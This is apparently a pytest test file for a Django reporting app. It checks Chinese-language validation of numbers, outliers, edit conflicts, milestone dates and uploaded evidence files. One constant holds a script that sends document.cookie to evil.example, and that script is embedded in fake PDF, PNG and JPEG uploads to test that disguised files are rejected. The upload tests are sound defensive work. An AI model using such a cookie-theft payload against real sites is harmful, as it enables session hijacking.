"""Each bad input gets a clear message next to its field, in Chinese, and nothing from that submit is saved."""

import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image, PngImagePlugin

from actions.models import Indicator
from metrics.models import Evidence, Figure, ProgressNote
from metrics.reporting.parsers import EVIDENCE_MAX_BYTES, outlier_bounds, parse_number
from tests.metrics.reporting import TODAY, WEEK, indicators, sheet_post, sheet_url


@pytest.fixture(autouse=True)
def pinned_today(settings, tmp_path):
    settings.PLANBOARD_TODAY = TODAY
    settings.MEDIA_ROOT = tmp_path


def field_error(html: str, indicator) -> str:
    match = re.search(rf'<p class="field-error" id="err-{indicator.pk}" role="alert">(.*?)</p>', html, re.S)
    return match.group(1) if match else ""


def post_bad(client, cast, raw, *, kind=None, note=""):
    """Post a sheet with one bad cell and one good one; return the response and the bad cell's indicator."""
    bad, good = indicators(cast.plan)[:2]
    if kind:
        Indicator.objects.filter(pk=bad.pk).update(kind=kind)
    client.force_login(cast.staff_a)
    response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {bad: (raw, note), good: "5"}))
    return response, bad


def add_history(cast, indicator, values):
    for weeks_back, value in enumerate(values, start=1):
        Figure.objects.create(indicator=indicator, department=cast.dept_a, period_start=WEEK - datetime.timedelta(weeks=weeks_back),
                              value=value, entered_at=datetime.datetime(2022, 5, 1, tzinfo=datetime.UTC))


@pytest.mark.django_db
class BadNumberTests:
    @pytest.mark.parametrize("raw,message", [
        ("abc", "请输入数字，例如 12.5。"),
        ("12,5a", "请输入数字，例如 12.5。"),
        ("NaN", "请输入普通数字：NaN 和无穷大不是有效数值。"),
        ("inf", "请输入普通数字：NaN 和无穷大不是有效数值。"),
        ("-Infinity", "请输入普通数字：NaN 和无穷大不是有效数值。"),
        ("1234567890123", "数值过大：小数点前最多 12 位数字。"),
        ("1e15", "数值过大：小数点前最多 12 位数字。"),
        ("1.23456", "小数点后最多 4 位数字。"),
        ("-3", "该指标不能为负数。"),
    ])
    def test_it_refuses_the_value_next_to_its_field_and_saves_nothing(self, client, cast, raw, message):
        response, bad = post_bad(client, cast, raw)
        assert response.status_code == 400
        html = response.content.decode()
        assert field_error(html, bad) == message
        assert "未保存任何内容" in html
        assert f'value="{raw}"' in html  # what was typed is shown again
        assert Figure.objects.count() == 0

    def test_it_accepts_thousands_separators_trailing_zeros_and_full_width_digits(self):
        assert parse_number(" 1,234.50000 ") == Decimal("1234.5")
        assert parse_number("１２．５") == Decimal("12.5")

    def test_a_rate_may_carry_its_percent_sign(self, client, cast):
        response, bad = post_bad(client, cast, "8.5%", kind="growth_rate")
        assert response.status_code == 302
        assert Figure.objects.get(indicator=bad).value == Decimal("8.5")
        amount = indicators(cast.plan)[2]  # an amount has no percent sign
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {amount: "8.5%"}))
        assert field_error(response.content.decode(), amount) == "请输入数字，例如 12.5。"

    def test_a_growth_rate_may_be_negative(self, client, cast):
        response, bad = post_bad(client, cast, "-2.5", kind="growth_rate")
        assert response.status_code == 302
        assert Figure.objects.get(indicator=bad).value == Decimal("-2.5")

    def test_a_count_must_be_whole(self, client, cast):
        response, bad = post_bad(client, cast, "2.5", kind="count")
        assert field_error(response.content.decode(), bad) == "该指标是计数：请输入整数。"
        assert Figure.objects.count() == 0

    def test_not_applicable_needs_a_reason(self, client, cast):
        response, bad = post_bad(client, cast, "na")
        assert field_error(response.content.decode(), bad) == "请说明此项不适用的原因（简短说明）。"
        assert Figure.objects.count() == 0

    def test_a_reported_figure_cannot_be_blanked(self, client, cast):
        ind = indicators(cast.plan)[0]
        client.force_login(cast.staff_a)
        client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: "3"}))
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: {"value": "", "version": 1}}))
        assert "该数据已报送，不能清空" in field_error(response.content.decode(), ind)
        assert Figure.objects.get().value == 3

    def test_a_cumulative_lower_than_the_previous_one_is_refused(self, client, cast):
        bad, good = indicators(cast.plan)[:2]
        Indicator.objects.filter(pk=bad.pk).update(entry_mode="cumulative")
        add_history(cast, bad, [20, 30])
        client.force_login(cast.staff_a)
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {bad: "45", good: "5"}))
        assert field_error(response.content.decode(), bad) == "累计值不能低于上期累计值 50。"
        assert Figure.objects.filter(period_start=WEEK).count() == 0


@pytest.mark.django_db
class OutlierTests:
    def test_the_range_comes_from_the_median_not_the_extremes(self):
        history = [Decimal(v) for v in ("10", "11", "9", "10", "12", "500")]
        low, high = outlier_bounds(history)
        assert high < 30  # one odd week of 500 does not widen the range
        assert outlier_bounds([Decimal("1")] * 3) is None  # too little history to judge

    def test_a_value_far_outside_the_departments_history_asks_for_a_confirming_note(self, client, cast):
        bad, good = indicators(cast.plan)[:2]
        add_history(cast, bad, [10, 11, 9, 10, 12, 10])
        client.force_login(cast.staff_a)
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {bad: "100", good: "5"}))
        message = field_error(response.content.decode(), bad)
        assert "100 远超出本单位以往数据的常见范围" in message and "请填写说明予以确认" in message
        assert Figure.objects.filter(period_start=WEEK).count() == 0
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {bad: ("100", "新项目集中投产"), good: "5"}))
        assert response.status_code == 302
        assert Figure.objects.get(indicator=bad, period_start=WEEK).note == "新项目集中投产"

    def test_a_usual_value_needs_no_note(self, client, cast):
        bad, good = indicators(cast.plan)[:2]
        add_history(cast, bad, [10, 11, 9, 10, 12, 10])
        client.force_login(cast.staff_a)
        assert client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {bad: "13"})).status_code == 302


@pytest.mark.django_db
class ConflictTests:
    def test_the_second_of_two_people_saving_the_same_cell_is_told_and_shown_both_values(self, client, cast):
        from django.test import Client

        ind = indicators(cast.plan)[0]
        colleague = Client()
        cast.dept_a.members.add(cast.staff_b)
        colleague.force_login(cast.staff_b)
        client.force_login(cast.staff_a)
        # Both opened the empty sheet (version 0); the colleague saves first.
        assert colleague.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: "10"})).status_code == 302
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: "12"}))
        assert response.status_code == 400
        message = field_error(response.content.decode(), ind)
        assert "冲突" in message and "当前已保存：10" in message and "您填写的：12" in message
        assert Figure.objects.get().value == 10
        # Seen both values, staff save again on the current version: now it is theirs.
        assert client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: {"value": "12", "version": 1}})).status_code == 302
        assert Figure.objects.get().value == 12

    def test_after_seeing_both_values_saving_the_page_again_is_a_deliberate_override(self, client, cast):
        ind = indicators(cast.plan)[0]
        client.force_login(cast.staff_a)
        client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: "10"}))
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: {"value": "12", "version": 0}}))
        html = response.content.decode()
        assert f'name="v-{ind.pk}" id="v-{ind.pk}" value="12"' in html  # what they typed stays
        assert f'name="ver-{ind.pk}" value="1"' in html  # offered against the version they have now seen
        client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: {"value": "12", "version": 1}}))
        assert Figure.objects.get().value == 12

    def test_an_outdated_version_of_a_changed_figure_is_a_conflict(self, client, cast):
        ind = indicators(cast.plan)[0]
        client.force_login(cast.staff_a)
        client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: "10"}))
        client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: {"value": "11", "version": 1}}))
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: {"value": "15", "version": 1}}))
        assert "当前已保存：11" in field_error(response.content.decode(), ind)
        assert Figure.objects.get().value == 11

    def test_progress_notes_are_version_checked_too(self, client, cast):
        task = indicators(cast.plan)[0].task
        ProgressNote.objects.create(task=task, department=cast.dept_a, period_start=WEEK, progress="别人写的")
        client.force_login(cast.staff_a)
        data = sheet_post(cast.dept_a, {}, **{f"progress-{task.pk}": "我写的", f"nver-{task.pk}": "0"})
        response = client.post(sheet_url(cast.dept_a), data)
        assert response.status_code == 400
        assert "“别人写的”" in response.content.decode() and "“我写的”" in response.content.decode()
        assert ProgressNote.objects.get().progress == "别人写的"


def pdf_bytes():
    """A minimal but well-formed PDF: objects, a cross-reference table at the offset startxref names, %%EOF."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


def docx_bytes(with_content_types=True, parts=("_rels/.rels", "word/document.xml")):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        if with_content_types:
            archive.writestr("[Content_Types].xml", "<Types/>")
        for part in parts:
            archive.writestr(part, "<xml/>")
    return out.getvalue()


def png_bytes(text=None):
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Comment", text)
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG", pnginfo=info)
    return out.getvalue()


HTML = b"<html><body><script>fetch('http://evil.example/?c='+document.cookie)</script></body></html>"


@pytest.mark.django_db
class EvidenceTests:
    def post_file(self, client, cast, upload, value="5"):
        ind = indicators(cast.plan)[0]
        client.force_login(cast.staff_a)
        data = sheet_post(cast.dept_a, {ind: value}, **{f"file-{ind.task.pk}": upload})
        return client.post(sheet_url(cast.dept_a), data)

    @pytest.mark.parametrize("name,content,message", [
        ("report.pdf", b"MZ\x90\x00 this is a program", "“report.pdf”的内容与扩展名（.pdf）不符：文件未被接受。"),
        ("photo.png", pdf_bytes(), "“photo.png”的内容与扩展名（.png）不符：文件未被接受。"),
        ("table.docx", docx_bytes(with_content_types=False), "“table.docx”的内容与扩展名（.docx）不符：文件未被接受。"),
        ("run.exe", b"MZ\x90\x00", "“run.exe”的文件类型不被接受。请上传 PDF、PNG、JPEG 或 Office 文件（Word、Excel、PowerPoint）。"),
        ("empty.pdf", b"", "“empty.pdf”是空文件。"),
        # Right first bytes, wrong structure:
        ("page.pdf", b"%PDF-1.4\n" + HTML, "“page.pdf”的内容与扩展名（.pdf）不符：文件未被接受。"),
        ("page.pdf", b"%PDF-1.4\n" + HTML + b"\nstartxref\n9\n%%EOF\n", "“page.pdf”的内容与扩展名（.pdf）不符：文件未被接受。"),
        ("photo.png", png_bytes() + HTML, "“photo.png”的内容与扩展名（.png）不符：文件未被接受。"),
        ("photo.png", png_bytes(text=HTML.decode()), "“photo.png”的内容与扩展名（.png）不符：文件未被接受。"),
        ("photo.png", png_bytes()[:40], "“photo.png”的内容与扩展名（.png）不符：文件未被接受。"),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + HTML, "“photo.jpg”的内容与扩展名（.jpg）不符：文件未被接受。"),
        ("plan.docx", docx_bytes(parts=()), "“plan.docx”的内容与扩展名（.docx）不符：文件未被接受。"),
        ("plan.xlsx", docx_bytes(), "“plan.xlsx”的内容与扩展名（.xlsx）不符：文件未被接受。"),
    ])
    def test_it_refuses_disguised_or_unaccepted_files_and_saves_nothing(self, client, cast, name, content, message):
        response = self.post_file(client, cast, SimpleUploadedFile(name, content))
        assert response.status_code == 400
        assert message in response.content.decode()
        assert Evidence.objects.count() == 0 and Figure.objects.count() == 0

    def test_it_refuses_an_oversized_file(self, client, cast):
        big = SimpleUploadedFile("big.pdf", b"%PDF-" + b"0" * EVIDENCE_MAX_BYTES)
        response = self.post_file(client, cast, big)
        assert "“big.pdf”过大：文件最大 10 MB。" in response.content.decode()
        assert Evidence.objects.count() == 0 and Figure.objects.count() == 0

    def test_it_stores_a_real_file_and_lets_those_who_may_see_the_task_download_it(self, client, cast):
        response = self.post_file(client, cast, SimpleUploadedFile("进展.pdf", pdf_bytes()))
        assert response.status_code == 302
        response = self.post_file(client, cast, SimpleUploadedFile("plan.docx", docx_bytes()), value={"value": "6", "version": 1})
        assert response.status_code == 302
        evidence = Evidence.objects.get(original_name="进展.pdf")
        assert evidence.content_type == "application/pdf" and evidence.uploaded_by == cast.staff_a
        client.force_login(cast.leader)
        download = client.get(reverse("metrics:evidence_download", args=[evidence.pk]))
        assert download.status_code == 200 and b"".join(download.streaming_content) == pdf_bytes()
        assert "attachment" in download["Content-Disposition"] and download["X-Content-Type-Options"] == "nosniff"
        assert Evidence.objects.get(original_name="plan.docx").content_type.endswith("wordprocessingml.document")

    def test_it_accepts_real_images(self, client, cast):
        jpeg = io.BytesIO()
        Image.new("RGB", (8, 8), "blue").save(jpeg, "JPEG")
        upload = [SimpleUploadedFile("photo.png", png_bytes()), SimpleUploadedFile("photo.jpg", jpeg.getvalue())]
        assert self.post_file(client, cast, upload).status_code == 302
        assert sorted(Evidence.objects.values_list("content_type", flat=True)) == ["image/jpeg", "image/png"]


@pytest.mark.django_db
class MilestoneTests:
    def test_a_milestone_is_marked_done_with_a_date_but_not_a_future_one(self, client, cast):
        milestone = indicators(cast.plan)[0].task.milestones.get()
        client.force_login(cast.staff_a)
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {}, **{f"ms-{milestone.pk}": "2022-06-01"}))
        assert "节点完成日期不能晚于今天。" in response.content.decode()
        response = client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {}, **{f"ms-{milestone.pk}": "2022/05/01"}))
        assert "请按 YYYY-MM-DD 格式输入日期。" in response.content.decode()
        milestone.refresh_from_db()
        assert milestone.done_date is None
        client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {}, **{f"ms-{milestone.pk}": "2022-03-30"}))
        milestone.refresh_from_db()
        assert milestone.done_date == datetime.date(2022, 3, 30)
